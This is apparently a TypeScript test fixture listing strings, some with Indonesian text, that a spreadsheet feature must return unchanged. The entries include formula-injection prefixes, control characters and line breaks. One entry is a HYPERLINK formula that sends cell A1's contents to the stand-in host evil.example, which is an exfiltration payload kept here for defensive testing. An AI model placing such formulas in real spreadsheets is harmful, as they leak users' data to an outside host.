/**
 * Text that a hostile or careless submission could carry, shared by the spreadsheet tests.
 */
/** Strings a hostile or careless submission could carry; each must come back exactly. */
export const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
  '=1+1',
  '+62 812-3456-7890',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1', // full-width equals sign
  '＋62 21 1234', // full-width plus
  '＠cmd',
  "'apostrof di depan",
  'Judul dengan _x0041_ di dalamnya',
  'kontrol\u0001dan\u007Fdel',
  'baris satu\nbaris dua',
  'baris satu\r\nbaris dua',
  '  spasi di tepi  ',
  'Inovasi 🚀 “Sipandu” <b>&amp;</b>',
  '#N/A',
  '0812345678',
  '1e5',
];
